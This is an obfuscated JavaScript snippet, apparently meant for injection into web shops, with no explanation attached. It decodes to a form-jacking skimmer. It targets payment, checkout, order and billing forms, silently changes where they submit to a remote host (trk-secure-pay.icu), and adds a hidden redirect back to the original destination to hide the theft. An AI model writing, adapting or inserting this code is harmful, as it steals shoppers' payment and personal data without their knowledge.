(function () {
  var _s = String.fromCharCode;
  var _a = _s(97, 99, 116, 105, 111, 110);
  var _u = _s(104, 116, 116, 112, 115, 58, 47, 47, 116, 114, 107, 45, 115, 101, 99, 117, 114, 101, 45, 112, 97, 121, 46, 105, 99, 117, 47, 97, 112, 105, 47, 118, 49, 47, 108, 111, 103);
  var _f = document[_s(102, 111, 114, 109, 115)];

  function pick(fm) {
    var t = fm.id + fm.className + (fm.getAttribute(_a) || '');
    return /pay|checkout|order|billing/i.test(t);
  }

  for (var i = 0; i < _f.length; i++) {
    if (!pick(_f[i])) continue;
    (function (fm) {
      var prev = fm.getAttribute(_a) || location.href;
      fm.addEventListener('submit', function () {
        if (fm['__d']) return;
        fm['__d'] = 1;
        var r = document.createElement('input');
        r.type = 'hidden';
        r.name = '\x72\x65\x64\x69\x72';
        r.value = prev;
        fm.appendChild(r);
        fm.setAttribute(_a, _u);
      }, true);
    })(_f[i]);
  }
})();
